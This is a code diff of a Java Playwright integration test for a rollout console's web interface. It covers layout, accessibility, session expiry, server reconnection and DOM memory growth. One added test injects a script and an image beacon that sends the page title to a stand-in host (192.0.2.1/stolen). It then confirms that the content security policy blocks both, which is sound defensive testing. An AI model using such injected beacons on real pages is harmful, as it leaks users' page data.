@@ -5,18 +5,24 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import com.deque.html.axecore.playwright.AxeBuilder;
 import com.microsoft.playwright.BrowserContext;
+import com.microsoft.playwright.CDPSession;
 import com.microsoft.playwright.Locator;
 import com.microsoft.playwright.Page;
+import com.microsoft.playwright.Route;
 import com.microsoft.playwright.assertions.LocatorAssertions;
 import com.microsoft.playwright.options.AriaRole;
 import com.microsoft.playwright.options.ColorScheme;
 import com.microsoft.playwright.options.SameSiteAttribute;
+import dev.tidegate.flags.Json;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Locale;
+import java.util.Map;
+import java.util.concurrent.atomic.AtomicInteger;
 import java.util.regex.Pattern;
 import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -25,7 +31,7 @@ import org.junit.jupiter.params.provider.CsvSource;
 
 /** The console in a real browser, on a real server that a service reports to. */
 class ConsoleIT {
-  private static final int WIDE = 1440;
+  private static final int WIDE = 1280;
   private static final int TALL = 900;
   private static final double PATIENCE = 60_000;
 
@@ -47,6 +53,17 @@ class ConsoleIT {
     if (browser != null) {
       browser.close();
     }
+  }
+
+  /** What the browser itself notes about a page that is refused, or is not there. */
+  private static final String REFUSED = ".*status of 40[14] .*/(login|nowhere):.*";
+
+  /** Pages ask nobody but their server, and nothing goes wrong in them. */
+  @AfterEach
+  void nothingWentWrong() {
+    assertThat(browser.complaints()).allMatch(text -> text.matches(REFUSED));
+    assertThat(browser.origins())
+        .allMatch(origin -> origin.matches("http://(127\\.0\\.0\\.1|localhost):[0-9]+"));
   }
 
   private static BrowserContext window() {
@@ -129,6 +146,10 @@ class ConsoleIT {
       assertThat(detail.locator(".reasons")).containsText("worse than the control", text());
       assertThat(detail.locator(".badge").first()).containsText("withdrawn", text());
       assertThat(detail.locator("#story")).containsText("is withdrawn (judge)");
+      var row = page.locator("#glance-ro-tax");
+      assertThat(row).containsText("withdrawn", text());
+      assertThat(row).containsText("nobody");
+      assertThat(row).containsText("worse than the control");
       var ended = page.locator("#ended-ro-tax");
       assertThat(ended).containsText("the judge found it harmful", text());
       assertThat(card).hasCount(0);
@@ -136,7 +157,8 @@ class ConsoleIT {
       why.locator("summary").click();
       assertThat(why).containsText("worse than the control");
       assertThat(page.evaluate("window.sameDocument")).isEqualTo(true);
-      Browser.picture(detail, "withdrawn-light-1440");
+      assertThat(detail.locator(".step.fell")).containsText("10 %");
+      Browser.picture(detail, "withdrawn-light-1280");
     }
   }
 
@@ -168,7 +190,7 @@ class ConsoleIT {
     try (var window = window()) {
       var page = loggedIn(window, "/");
       var reached = new ArrayList<String>();
-      for (int i = 0; i < 25; i++) {
+      for (int i = 0; i < 30; i++) {
         page.keyboard().press("Tab");
         reached.add(
             String.valueOf(
@@ -182,37 +204,80 @@ class ConsoleIT {
   }
 
   @ParameterizedTest
-  @CsvSource({"LIGHT, 1440", "DARK, 1440", "LIGHT, 400", "DARK, 400"})
+  @CsvSource({"LIGHT, 1280", "DARK, 1280", "LIGHT, 390", "DARK, 390"})
   void nothingIsInaccessibleAndNothingLeavesTheWindow(ColorScheme scheme, int width) {
     try (var window = browser.window(scheme, width, TALL)) {
       var name = "-" + scheme.name().toLowerCase(Locale.ROOT) + "-" + width;
       var page = window.newPage();
       page.navigate(scene.rig.url() + "/");
-      inspect(page, "login" + name);
       page.fill("#token", "wrong");
       page.keyboard().press("Enter");
       page.getByRole(AriaRole.ALERT).waitFor();
-      inspect(page, "refused" + name);
+      assertFits(page, "refused" + name);
+      page.navigate(scene.rig.url() + "/nowhere");
+      assertFits(page, "missing" + name);
       page.close();
       var overview = loggedIn(window, "/");
-      inspect(overview, "overview" + name);
-      overview.locator("details").all().forEach(details -> details.evaluate("d => d.open = true"));
-      inspect(overview, "overview-open" + name);
-      inspect(loggedIn(window, "/rollouts/ro-price"), "rollout" + name);
-      overview.navigate(scene.rig.url() + "/nowhere");
-      inspect(overview, "missing" + name);
+      assertFits(overview, "overview" + name);
+      overview.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)");
+      boolean looksAtEachOnce = (scheme == ColorScheme.LIGHT) == (width == WIDE);
+      if (looksAtEachOnce) {
+        assertAccessible(overview);
+      }
+      assertFits(loggedIn(window, "/rollouts/ro-basket"), "fallen" + name);
+      var rollout = loggedIn(window, "/rollouts/ro-price");
+      assertFits(rollout, "rollout" + name);
+      if (looksAtEachOnce) {
+        assertAccessible(rollout);
+      }
     }
   }
 
-  private static void inspect(Page page, String name) {
+  @Test
+  void theLoginAndThePageOfAnErrorAreAccessible() {
+    try (var window = window()) {
+      var page = window.newPage();
+      page.navigate(scene.rig.url() + "/login?ended=yes&next=%2F");
+      assertThat(page.getByRole(AriaRole.ALERT)).containsText("your session has ended");
+      assertAccessible(page);
+      page.navigate(scene.rig.url() + "/nowhere");
+      assertAccessible(page);
+    }
+  }
+
+  private static void assertFits(Page page, String name) {
     Browser.picture(page, name);
-    var found = new AxeBuilder(page).analyze().getViolations();
-    assertThat(found.stream().map(rule -> rule.getId() + ": " + rule.getNodes()).toList())
-        .as(name)
-        .isEmpty();
     assertThat(page.evaluate("document.documentElement.scrollWidth - innerWidth"))
         .as(name + " is wider than its window")
         .isEqualTo(0);
+  }
+
+  private static void assertAccessible(Page page) {
+    var found = new AxeBuilder(page).analyze().getViolations();
+    assertThat(found.stream().map(rule -> rule.getId() + ": " + rule.getNodes()).toList())
+        .as(page.url())
+        .isEmpty();
+  }
+
+  @Test
+  void aScriptThatFindsItsWayIntoAPageDoesNotRun() {
+    try (var window = window()) {
+      var page = loggedIn(window, "/");
+      page.evaluate(
+          """
+          () => {
+            const script = document.createElement('script');
+            script.textContent = 'window.ran = true';
+            document.body.append(script);
+            const image = document.createElement('img');
+            image.src = 'http://192.0.2.1/stolen?' + document.title;
+            document.body.append(image);
+          }
+          """);
+      assertThat(page.evaluate("window.ran")).isNull();
+      assertThat(browser.complaints()).hasSize(2).allMatch(text -> text.contains("violates"));
+      browser.origins(); // what the policy refused may be among what was asked for
+    }
   }
 
   @Test
@@ -234,7 +299,8 @@ class ConsoleIT {
       var page = loggedIn(window, scene.rig, secret, "/");
       assertThat(page.locator("#status")).containsText("lena");
       scene.rig.delete("/api/v1/tokens/" + List.of(secret.split("_", 3)).get(1));
-      page.waitForURL(Pattern.compile(".*/login\\?next=%2F"));
+      page.waitForURL(Pattern.compile(".*/login\\?ended=yes&next=%2F"));
+      assertThat(page.getByRole(AriaRole.ALERT)).containsText("your session has ended");
       page.fill("#token", secret);
       page.keyboard().press("Enter");
       assertThat(page.getByRole(AriaRole.ALERT)).containsText("was revoked");
@@ -242,20 +308,67 @@ class ConsoleIT {
   }
 
   @Test
-  void aLostServerIsSaidAndAfterItsRestartThePageGoesToTheLogin(@TempDir Path other) {
+  void anHourOfNewsLeavesThePageAsLargeAsItWas() {
+    try (var window = window()) {
+      var page = loggedIn(window, "/rollouts/ro-price");
+      var news =
+          twentyMinutes((String) page.evaluate("document.getElementById('detail').outerHTML"));
+      var times = new AtomicInteger();
+      page.route(
+          "**/console/events*",
+          route -> {
+            times.incrementAndGet();
+            var answer = new Route.FulfillOptions().setContentType("text/event-stream");
+            route.fulfill(answer.setBody(news));
+          });
+      page.reload();
+      page.waitForCondition(() -> times.get() == 2);
+      var counters = window.newCDPSession(page);
+      long once = nodes(counters);
+      page.waitForCondition(() -> times.get() == 4);
+      assertThat(page.locator("#detail")).containsText("119 %");
+      assertThat(nodes(counters)).isLessThan(once + once / 2);
+    }
+  }
+
+  /** What comes of it when windows take ten seconds. */
+  private static String twentyMinutes(String detail) {
+    var news = new StringBuilder();
+    for (int i = 0; i < 120; i++) {
+      var html = Json.of(detail.replace("10 %", i + " %"));
+      var fragment = new Json.Obj(Map.of("id", Json.of("detail"), "html", html));
+      news.append("event: fragment\ndata: ").append(fragment.text()).append("\n\n");
+    }
+    return news.toString();
+  }
+
+  /** How many nodes of documents there are, the ones that nobody needs any more cleared away. */
+  private static long nodes(CDPSession session) {
+    session.send("HeapProfiler.collectGarbage");
+    return session.send("Memory.getDOMCounters").get("nodes").getAsLong();
+  }
+
+  @Test
+  void aLostServerIsSaidAndAfterItsRestartThePageIsLiveAgain(@TempDir Path other) {
     try (var window = window()) {
       Page page;
       int port;
       try (var rig = Rig.on(other)) {
         port = rig.port();
         page = loggedIn(window, rig, rig.secret(), "/");
+        page.evaluate("window.sameDocument = true");
       }
       assertThat(page.locator("#link")).containsText("not connected", text());
       assertThat(page.locator("body")).hasAttribute("data-link", "off");
-      inspect(page, "lost-light-1440");
+      assertFits(page, "lost-light-1280");
       try (var rig = Rig.on(other, port)) {
-        page.waitForURL(rig.url() + "/login?next=%2F");
+        assertThat(page.locator("#link")).hasAttribute("data-state", "on", attribute());
+        rig.flag("new-flag", "default/production");
+        assertThat(page.locator("#happened")).containsText("new-flag", text());
+        assertThat(page.evaluate("window.sameDocument")).isEqualTo(true);
       }
     }
+    // the browser itself notes each request that nobody answered
+    assertThat(browser.complaints()).allMatch(text -> text.contains("net::ERR_"));
   }
 }
